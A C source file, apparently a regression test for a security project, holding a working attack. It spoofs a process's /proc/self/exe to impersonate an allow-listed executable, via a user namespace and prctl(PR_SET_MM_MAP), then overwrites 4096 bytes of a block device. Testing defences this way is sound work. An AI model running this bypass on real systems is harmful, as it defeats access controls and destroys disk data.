/*
 * ag-mmmap-write - borrow an allow-listed executable's identity by pointing
 * this process's /proc/self/exe at it (issue 29's attack) and write a disk.
 *
 *   ag-mmmap-write TARGET_EXE DEVICE OFFSET
 *
 * Forks a child that enters a user namespace of its own (unshare
 * CLONE_NEWUSER, its uid and gid mapped to 0: it holds every capability
 * there), opens TARGET_EXE read-only and calls prctl(PR_SET_MM,
 * PR_SET_MM_MAP) with that exe_fd and its own current memory layout. The
 * kernel allows it to a task with CAP_CHECKPOINT_RESTORE or CAP_SYS_ADMIN in
 * its own user namespace (5.9 and later; before: CAP_SYS_ADMIN in the
 * initial one) and refuses it (EBUSY) while any mapping of the old executable
 * remains (5.10 prctl_set_mm_exe_file, 6.x replace_mm_exe_file). So the child
 * first moves the code that does the rest (agblob: raw system calls, no libc,
 * no globals) to an anonymous mapping, unmaps every mapping of its own
 * executable, sets the exe link, then opens DEVICE O_WRONLY and pwrites 4096
 * bytes ("AGMMMAP" and 'M's) at byte OFFSET. Results go back through a shared
 * page; the parent prints "prctl(PR_SET_MM_MAP) = ...", "openat = ...",
 * "pwrite64 = ..." and exits 0 only if the write landed (4096), 1 if not,
 * 2 on a setup error. Built statically (tests/vm/initramfs.sh); x86_64 only.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <linux/prctl.h>

#define LEN 4096
#define MAXMAPS 16

struct args {
	char buf[LEN]; /* first: page-aligned in the shared page */
	char dev[256];
	long long off;
	struct prctl_mm_map map;
	unsigned long unmap[MAXMAPS][2];
	int nunmap;
	struct timespec linger;
	long r_munmap, r_prctl, r_open, r_write, r_fsync;
	int done;
};

static inline __attribute__((always_inline)) long sc6(long nr, long a1, long a2, long a3, long a4, long a5)
{
	long ret;
	register long r10 __asm__("r10") = a4;
	register long r8 __asm__("r8") = a5;
	__asm__ volatile("syscall"
			 : "=a"(ret)
			 : "a"(nr), "D"(a1), "S"(a2), "d"(a3), "r"(r10), "r"(r8)
			 : "rcx", "r11", "memory");
	return ret;
}

/* Runs from an anonymous copy after this program's mappings are gone: only
 * inline system calls and the args it is given. */
__attribute__((section("agtext"), noinline, used, optimize("no-stack-protector"))) static void
agblob(struct args *a)
{
	a->r_munmap = 0;
	for (int i = 0; i < a->nunmap; i++) {
		long r = sc6(SYS_munmap, a->unmap[i][0], a->unmap[i][1], 0, 0, 0);
		if (r)
			a->r_munmap = r;
	}
	a->r_prctl = sc6(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&a->map, sizeof(a->map), 0);
	a->r_open = sc6(SYS_openat, AT_FDCWD, (long)a->dev, O_WRONLY, 0, 0);
	a->r_write = -9; /* EBADF */
	if (a->r_open >= 0) {
		a->r_write = sc6(SYS_pwrite64, a->r_open, (long)a->buf, LEN, a->off, 0);
		a->r_fsync = sc6(SYS_fsync, a->r_open, 0, 0, 0, 0);
	}
	a->done = 1;
	/* a moment alive: denial events resolve /proc/PID/exe when read */
	sc6(SYS_nanosleep, (long)&a->linger, 0, 0, 0, 0);
	sc6(SYS_exit_group, 0, 0, 0, 0, 0);
	for (;;)
		;
}
extern char __start_agtext[], __stop_agtext[];

static void write_file(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY);
	if (fd < 0 || write(fd, s, strlen(s)) != (ssize_t)strlen(s)) {
		fprintf(stderr, "ag-mmmap-write: write %s: %s\n", path, strerror(errno));
		_exit(2);
	}
	close(fd);
}

/* The memory layout fields of /proc/self/stat (proc(5): 26-28, 45-51). */
static int fill_map(struct prctl_mm_map *m)
{
	char s[4096];
	int fd = open("/proc/self/stat", O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, s, sizeof(s) - 1);
	if (n <= 0)
		return -1;
	s[n] = 0;
	close(fd);
	char *p = strrchr(s, ')'); /* after the comm */
	unsigned long long f[64] = { 0 };
	int field = 2;
	for (char *t = strtok(p + 1, " "); t && field < 63; t = strtok(NULL, " "))
		f[++field] = strtoull(t, NULL, 10);
	m->start_code = f[26];
	m->end_code = f[27];
	m->start_stack = f[28];
	m->start_data = f[45];
	m->end_data = f[46];
	m->start_brk = f[47];
	m->arg_start = f[48];
	m->arg_end = f[49];
	m->env_start = f[50];
	m->env_end = f[51];
	m->brk = syscall(SYS_brk, 0);
	m->auxv = 0;
	m->auxv_size = 0;
	return field >= 51 ? 0 : -1;
}

static void child(struct args *a, const char *target, uid_t uid, gid_t gid)
{
	char m[64];
	if (unshare(CLONE_NEWUSER)) {
		fprintf(stderr, "ag-mmmap-write: unshare(CLONE_NEWUSER): %s\n", strerror(errno));
		_exit(2);
	}
	snprintf(m, sizeof(m), "0 %u 1\n", uid);
	write_file("/proc/self/uid_map", m);
	write_file("/proc/self/setgroups", "deny");
	snprintf(m, sizeof(m), "0 %u 1\n", gid);
	write_file("/proc/self/gid_map", m);
	int exe_fd = open(target, O_RDONLY);
	if (exe_fd < 0) {
		fprintf(stderr, "ag-mmmap-write: open %s: %s\n", target, strerror(errno));
		_exit(2);
	}
	if (fill_map(&a->map)) {
		fprintf(stderr, "ag-mmmap-write: cannot read /proc/self/stat\n");
		_exit(2);
	}
	a->map.exe_fd = exe_fd;
	/* every mapping of this program's own file */
	char self[512], line[1024];
	ssize_t n = readlink("/proc/self/exe", self, sizeof(self) - 1);
	if (n <= 0)
		_exit(2);
	self[n] = 0;
	FILE *f = fopen("/proc/self/maps", "r");
	while (f && fgets(line, sizeof(line), f)) {
		unsigned long lo, hi;
		char *path = strchr(line, '/');
		if (!path || sscanf(line, "%lx-%lx", &lo, &hi) != 2)
			continue;
		path[strcspn(path, "\n")] = 0;
		if (strcmp(path, self) || a->nunmap >= MAXMAPS)
			continue;
		a->unmap[a->nunmap][0] = lo;
		a->unmap[a->nunmap][1] = hi - lo;
		a->nunmap++;
	}
	if (f)
		fclose(f);
	/* the code that runs on without them */
	size_t len = __stop_agtext - __start_agtext;
	void *code = mmap(NULL, len + LEN, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (code == MAP_FAILED)
		_exit(2);
	memcpy(code, __start_agtext, len);
	void (*run)(struct args *) = (void (*)(struct args *))((char *)code + ((char *)agblob - __start_agtext));
	run(a);
	_exit(3); /* not reached */
}

static void show(const char *call, long r)
{
	if (r < 0 && r > -4096)
		printf("%s = -1 %s (%s)\n", call, strerrorname_np(-r) ? strerrorname_np(-r) : "?", strerror(-r));
	else
		printf("%s = %ld\n", call, r);
}

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: ag-mmmap-write TARGET_EXE DEVICE OFFSET\n");
		return 2;
	}
	char *endp;
	long long off = strtoll(argv[3], &endp, 0);
	if (*endp || off < 0 || strlen(argv[2]) >= 256) {
		fprintf(stderr, "ag-mmmap-write: give a device path and a byte offset (got '%s' '%s')\n", argv[2],
			argv[3]);
		return 2;
	}
	struct args *a = mmap(NULL, sizeof(*a), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (a == MAP_FAILED)
		return 2;
	memset(a, 0, sizeof(*a));
	memset(a->buf, 'M', LEN);
	memcpy(a->buf, "AGMMMAP", 7);
	strcpy(a->dev, argv[2]);
	a->off = off;
	a->linger.tv_nsec = 500000000;
	a->map.exe_fd = (uint32_t)-1;
	uid_t uid = getuid();
	gid_t gid = getgid();
	fflush(stdout);
	pid_t pid = fork();
	if (pid < 0)
		return 2;
	if (pid == 0)
		child(a, argv[1], uid, gid);
	/* read its exe link while it lingers */
	char link[64], exe[512] = "?";
	snprintf(link, sizeof(link), "/proc/%d/exe", pid);
	for (int i = 0; i < 400 && !__atomic_load_n(&a->done, __ATOMIC_ACQUIRE); i++)
		usleep(5000);
	ssize_t n = readlink(link, exe, sizeof(exe) - 1);
	if (n > 0)
		exe[n] = 0;
	int st;
	waitpid(pid, &st, 0);
	if (!a->done) {
		fprintf(stderr, "ag-mmmap-write: the child did not get to the write (status 0x%x)\n", st);
		return 2;
	}
	printf("unmapped %d mappings of its own executable: %s\n", a->nunmap, a->r_munmap ? "FAILED" : "ok");
	show("prctl(PR_SET_MM_MAP, exe_fd)", a->r_prctl);
	printf("exe of %d after prctl: %s\n", pid, exe);
	show("openat(O_WRONLY)", a->r_open);
	show("pwrite64(4096)", a->r_write);
	printf("write %s\n", a->r_write == LEN ? "LANDED" : "refused");
	return a->r_write == LEN ? 0 : 1;
}
